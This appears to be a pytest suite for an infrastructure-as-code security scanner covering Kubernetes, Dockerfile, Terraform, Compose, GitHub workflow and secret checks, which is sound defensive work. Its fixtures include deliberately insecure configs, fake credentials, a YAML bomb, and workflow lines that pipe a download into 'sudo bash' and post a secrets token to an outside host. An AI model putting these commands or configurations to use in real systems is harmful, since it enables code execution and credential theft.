"""Tests of `scan_files`: each family, hostile input, and agreement with labelled examples."""

from __future__ import annotations

import json
import os
from collections import defaultdict
from pathlib import Path

import pytest

from jobforge.autopilots.ops import Finding, list_checks, scan_files
from jobforge.autopilots.ops.iac.scanner import MAX_FILE_BYTES, scan_texts

LABELLED = Path(__file__).parents[5] / "shared/datasets/iac-checks"

DEPLOYMENT = """\
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
  namespace: shop
spec:
  template:
    spec:
      hostPID: true
      containers:
        - name: web
          image: web:latest
          securityContext:
            privileged: true
"""
HARDENED_POD = """\
apiVersion: v1
kind: Pod
metadata: {name: web, namespace: shop}
spec:
  automountServiceAccountToken: false
  securityContext: {runAsUser: 20000, runAsNonRoot: true, seccompProfile: {type: RuntimeDefault}}
  containers:
    - name: web
      image: web:1.2@sha256:0123
      imagePullPolicy: Always
      livenessProbe: {httpGet: {path: /, port: 80}}
      readinessProbe: {httpGet: {path: /, port: 80}}
      resources: {requests: {cpu: 1, memory: 1Gi}, limits: {cpu: 1, memory: 1Gi}}
      securityContext:
        allowPrivilegeEscalation: false
        readOnlyRootFilesystem: true
        capabilities: {drop: [ALL]}
"""


def failed(findings: list[Finding]) -> set[str]:
    return {ref for f in findings if f.status == "FAILED" for ref in (f.check_id, *f.references)}


def test_a_manifest_is_judged_with_file_line_and_value() -> None:
    found = scan_texts({"web.yaml": DEPLOYMENT})

    privileged = next(f for f in found if "CKV_K8S_16" in f.references)
    assert privileged.status == "FAILED"
    assert (privileged.path, privileged.line) == ("web.yaml", 11)
    assert privileged.resource == "Deployment.shop.web"
    assert privileged.evidence == "container web: privileged is true"
    assert {"CKV_K8S_17", "CKV_K8S_14", "CKV_K8S_13"} <= failed(found)
    assert "CKV_K8S_21" not in failed(found)


def test_a_hardened_pod_passes_every_check() -> None:
    found = scan_texts({"pod.yaml": HARDENED_POD})

    assert failed(found) == set()
    assert len(found) > 30


def test_lists_and_several_documents_are_opened() -> None:
    pod = {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": "a"}, "spec": {"hostIPC": True}}
    listed = {"apiVersion": "v1", "kind": "List", "items": [pod]}

    found = scan_texts({"list.json": json.dumps(listed), "two.yaml": "a: 1\n---\n" + DEPLOYMENT})

    assert {f.path for f in found if f.status == "FAILED"} == {"list.json", "two.yaml"}
    assert "CKV_K8S_18" in failed(found)


@pytest.mark.parametrize(
    ("line", "check", "is_failed"),
    [
        ("USER root", "CKV_DOCKER_8", True),
        ("USER app", "CKV_DOCKER_8", False),
        ("EXPOSE 20-25", "CKV_DOCKER_1", True),
        ("ADD x /x", "CKV_DOCKER_4", True),
        ("RUN apt-get update", "CKV_DOCKER_5", True),
        ("RUN apt-get update && apt-get install -y curl", "CKV_DOCKER_5", False),
        ("RUN apt-get \\\n  # comment\n  update", "CKV_DOCKER_5", True),
        ("RUN <<EOF\napt-get update\nEOF", "CKV_DOCKER_5", True),
        ("RUN apt install curl", "CKV_DOCKER_9", True),
        ("WORKDIR app", "CKV_DOCKER_10", True),
        ("WORKDIR $HOME", "CKV_DOCKER_10", False),
        ("HEALTHCHECK NONE", "CKV_DOCKER_2", True),
        ("RUN curl -fsSLk https://x", "CKV2_DOCKER_2", True),
        ("RUN curl -fsSL https://x", "CKV2_DOCKER_2", False),
        ("ENV NODE_TLS_REJECT_UNAUTHORIZED=0", "CKV2_DOCKER_6", True),
    ],
)
def test_a_dockerfile_line_is_judged(line: str, check: str, is_failed: bool) -> None:
    found = scan_texts({"Dockerfile": f"FROM debian:12\n{line}\n"})

    assert (check in failed(found)) is is_failed


def test_a_base_image_tag_may_come_from_an_argument() -> None:
    pinned = scan_texts({"a/Dockerfile": "ARG V=alpine:3.20\nFROM $V AS base\nFROM base\n"})
    floating = scan_texts({"b/Dockerfile": "ARG V=alpine\nFROM $V\n"})

    assert "CKV_DOCKER_7" not in failed(pinned)
    assert "CKV_DOCKER_7" in failed(floating)


def bucket_policy(statement: str) -> str:
    return f'resource "aws_s3_bucket_policy" "b" {{\n  policy = jsonencode({statement})\n}}\n'


def test_terraform_values_come_from_variables_locals_and_functions() -> None:
    main = """
variable "on" { default = true }
locals { key = "${var.prefix}-key" }
resource "aws_ebs_volume" "a" {
  encrypted  = var.on
  kms_key_id = local.key
}
resource "aws_ebs_volume" "b" { encrypted = !var.on }
"""
    found = scan_texts({"m/main.tf": main})

    verdicts = {(f.references[0], f.resource): f.status for f in found}
    assert verdicts["CKV_AWS_3", "aws_ebs_volume.a"] == "PASSED"
    assert verdicts["CKV_AWS_189", "aws_ebs_volume.a"] == "PASSED"
    assert verdicts["CKV_AWS_3", "aws_ebs_volume.b"] == "FAILED"


def test_a_local_module_is_judged_once_per_call_and_key() -> None:
    caller = """
module "m" {
  source   = "./inner"
  for_each = ["x", "y"]
  public   = each.value == "x"
}
"""
    inner = """
variable "public" {}
resource "aws_instance" "i" { associate_public_ip_address = var.public }
"""

    found = scan_texts({"r/main.tf": caller, "r/inner/main.tf": inner})

    verdicts = {f.resource: f.status for f in found if "CKV_AWS_88" in f.references}
    assert verdicts == {
        'module.m["x"].aws_instance.i': "FAILED",
        'module.m["y"].aws_instance.i': "PASSED",
    }


def test_a_policy_from_a_data_document_is_judged() -> None:
    text = """
data "aws_iam_policy_document" "d" {
  statement {
    actions   = ["*"]
    resources = ["*"]
  }
}
resource "aws_iam_policy" "p" { policy = data.aws_iam_policy_document.d.json }
"""
    assert "CKV_AWS_62" in failed(scan_texts({"main.tf": text}))


def test_an_open_bucket_is_found_and_a_limited_one_passes() -> None:
    open_policy = '{Statement = [{Effect = "Allow", Principal = "*", Action = "s3:GetObject"}]}'
    limited = open_policy.replace('"*"', '{AWS = "arn:aws:iam::1:role/r"}')

    assert "CKV_AWS_70" in failed(scan_texts({"a.tf": bucket_policy(open_policy)}))
    assert "CKV_AWS_70" not in failed(scan_texts({"a.tf": bucket_policy(limited)}))


def test_a_plan_is_judged_and_unknown_values_are_no_failure() -> None:
    change = {
        "mode": "managed", "type": "aws_ebs_volume", "name": "v", "address": "aws_ebs_volume.v",
        "change": {"after": {"encrypted": False}, "after_unknown": {"kms_key_id": True}},
    }  # fmt: skip
    plan = {"terraform_version": "1.9", "planned_values": {}, "resource_changes": [change]}

    found = scan_texts({"plan.json": json.dumps(plan)})

    assert "CKV_AWS_3" in failed(found)
    assert "CKV_AWS_189" not in failed(found)


def test_compose_services_are_judged() -> None:
    text = """
services:
  db:
    image: postgres
    privileged: true
    network_mode: host
    cap_add: [SYS_ADMIN]
    user: root
    security_opt: ["seccomp:unconfined"]
    ports: ["5432:5432"]
    volumes: ["/var/run/docker.sock:/var/run/docker.sock"]
  safe:
    image: web:1
    mem_limit: 1g
    ports: ["127.0.0.1:5432:5432", "80:80"]
"""
    found = scan_texts({"docker-compose.yml": text})

    assert {f.resource for f in found} == {"service db"}
    assert len(found) == 9


def test_workflows_are_judged() -> None:
    text = """
on: pull_request_target
jobs:
  a:
    env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: "true"}
    steps:
      - uses: actions/checkout@v4
        with: {ref: "${{ github.event.pull_request.head.sha }}"}
      - run: echo "${{ github.event.issue.title }}"
      - run: curl -s https://x | sudo bash
      - run: curl -d "${{ secrets.TOKEN }}" https://x
"""
    found = scan_texts({".github/workflows/ci.yml": text})

    expected = {f"OPS_GHA_{number:03}" for number in (1, 2, 3, 5, 6, 7, 8)}
    assert {f.check_id for f in found} == expected


def test_a_pinned_workflow_with_permissions_passes() -> None:
    text = f"on: push\npermissions: {{}}\njobs: {{a: {{steps: [{{uses: 'a/b@{'0' * 40}'}}]}}}}\n"

    assert scan_texts({".github/workflows/ci.yml": text}) == []


@pytest.mark.parametrize(
    "line",
    [
        "key = AKIA" + "ABCDEFGHIJKLMNOP",
        "-----BEGIN RSA " + "PRIVATE KEY-----",
        "token: ghp_" + "a1B2" * 9,
        "url: postgres://app:" + "Tr0ub4dor@db.internal/x",
        'api_key = "' + "kJ8s7Hq2Lm9Zx4Vb" + '"',
    ],
)
def test_a_secret_is_found_and_never_shown(line: str) -> None:
    (finding,) = scan_texts({"settings.ini": f"a = 1\n{line}\n"})

    assert finding.line == 2
    assert line.split()[-1].strip('"') not in repr(finding)


@pytest.mark.parametrize(
    "line",
    ['password = "changeme-please-now"', "password: ${DB_PASSWORD}", "see https://user@host/path"],
)
def test_a_placeholder_is_no_secret(line: str) -> None:
    assert scan_texts({"settings.ini": line}) == []


@pytest.mark.parametrize(
    ("path", "text", "check"),
    [
        ("a.yaml", "a: [", "OPS_FILE_001"),
        ("t.yaml", "kind: {{ .Values.kind }}\n  x: {{ y", "OPS_FILE_002"),
        ("a.tf", 'resource "aws_x" "y" {', "OPS_FILE_001"),
        ("a.tf", "a = " + "[" * 5000, "OPS_FILE_001"),
        ("a.yaml", "a: " + "[" * 5000, "OPS_FILE_001"),
        ("a.yaml", "- " * 5000, "OPS_FILE_001"),
        ("a.yaml", "&a [*a]", "OPS_FILE_001"),
        ("a.yaml", "kind: Pod\napiVersion: v1\nspec: &s {containers: [*s]}", "OPS_FILE_001"),
        ("a.yaml", "x: &x {<<: *x}", "OPS_FILE_001"),
        ("a.json", '{"kind": ' + "[" * 100_000, "OPS_FILE_001"),
    ],
)
def test_what_cannot_be_read_is_a_finding_not_an_all_clear(
    path: str, text: str, check: str
) -> None:
    assert check in failed(scan_texts({path: text}))


def test_a_yaml_bomb_costs_nothing() -> None:
    lines = ["apiVersion: v1", "kind: Pod", "a0: &a0 [x]"]
    lines += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 20)}]" for i in range(1, 60)]

    assert scan_texts({"bomb.yaml": "\n".join(lines)}) != []


def test_folders_are_walked_without_links_and_package_folders(tmp_path: Path) -> None:
    (tmp_path / "real").mkdir()
    (tmp_path / "real" / "Dockerfile").write_text("FROM alpine\n")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "Dockerfile").write_text("FROM alpine\n")
    (tmp_path / "link").symlink_to("/etc")
    (tmp_path / "big.yaml").write_text("a: 1\n" * 1_000_000)
    (tmp_path / "binary.yaml").write_bytes(b"\0\1\2")

    found = scan_files([tmp_path])

    names = {Path(f.path).name for f in found}
    assert names == {"Dockerfile", "big.yaml"}
    assert {f.path for f in found if "CKV_DOCKER_7" in f.references} == {
        str(tmp_path / "real" / "Dockerfile")
    }


@pytest.mark.timeout(20)
def test_a_file_that_cannot_be_read_is_a_finding_and_holds_nobody_up(tmp_path: Path) -> None:
    pipe, large = tmp_path / "pipe.yaml", tmp_path / "large.yaml"
    os.mkfifo(pipe)
    large.write_bytes(b"#" * (MAX_FILE_BYTES + 1))

    found = scan_files([pipe, large, "/dev/zero"])

    assert [(one.check_id, one.evidence) for one in found] == [
        ("OPS_FILE_001", "no regular file"),
        ("OPS_FILE_001", f"over {MAX_FILE_BYTES:,} bytes"),
        ("OPS_FILE_001", "no regular file"),
    ]


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_a_manifest_is_judged_in_the_encoding_that_its_first_bytes_say(
    tmp_path: Path, encoding: str
) -> None:
    mark = "\ufeff" if encoding.endswith(("-le", "-be")) else ""
    (tmp_path / "web.yaml").write_text(mark + DEPLOYMENT, encoding=encoding)

    failed = {one.check_id for one in scan_files([tmp_path]) if one.status == "FAILED"}

    assert failed == {
        one.check_id for one in scan_texts({"web.yaml": DEPLOYMENT}) if one.status == "FAILED"
    }


def test_a_missing_path_is_an_error(tmp_path: Path) -> None:
    with pytest.raises(FileNotFoundError):
        scan_files([tmp_path / "nothing"])


def test_checks_can_be_chosen_by_either_id() -> None:
    files = {"web.yaml": DEPLOYMENT}

    assert {f.check_id for f in scan_texts(files, checks=["CKV_K8S_16"])} == {"OPS_K8S_16"}
    assert {f.check_id for f in scan_texts(files, checks=["OPS_K8S_17"])} == {"OPS_K8S_17"}


def test_every_check_has_one_id_a_title_and_a_remedy() -> None:
    checks = list_checks()

    assert len({check.check_id for check in checks}) == len(checks)
    assert all(check.title and check.remediation for check in checks)
    references = [ref for check in checks for ref in check.references]
    assert sum(ref.startswith("CKV_K8S_") for ref in references) >= 60
    assert sum(ref.startswith("CKV_AWS_") for ref in references) >= 300


def test_fingerprints_survive_a_moved_line() -> None:
    before = {f.fingerprint for f in scan_texts({"web.yaml": DEPLOYMENT})}
    after = {f.fingerprint for f in scan_texts({"web.yaml": "# moved\n\n" + DEPLOYMENT})}

    assert before == after


@pytest.mark.skipif(not LABELLED.exists(), reason="the labelled examples are not here")
def test_labelled_examples_agree() -> None:
    per_file: defaultdict[tuple[str, str], set[str]] = defaultdict(set)
    per_resource: defaultdict[tuple[str, str, str], set[str]] = defaultdict(set)
    families = [LABELLED / name for name in ("kubernetes", "dockerfile", "terraform-aws")]
    for finding in scan_files(families):
        path = str(Path(finding.path).relative_to(LABELLED))
        for reference in finding.references:
            per_file[path, reference].add(finding.status)
            per_resource[path, finding.resource, reference].add(finding.status)

    wrong = []
    for label in json.loads((LABELLED / "labels.json").read_text()):
        path = f"{label['folder']}/{label['file']}"
        if label["file"] is None:
            continue
        if path.startswith("terraform"):
            found = per_resource[path, label["resource"], label["check_id"]]
            wrong += [label] if ("FAILED" in found) != (label["expected"] == "FAILED") else []
        elif label["expected"] == "FAILED" and "FAILED" not in per_file[path, label["check_id"]]:
            wrong.append(label)

    assert wrong == []
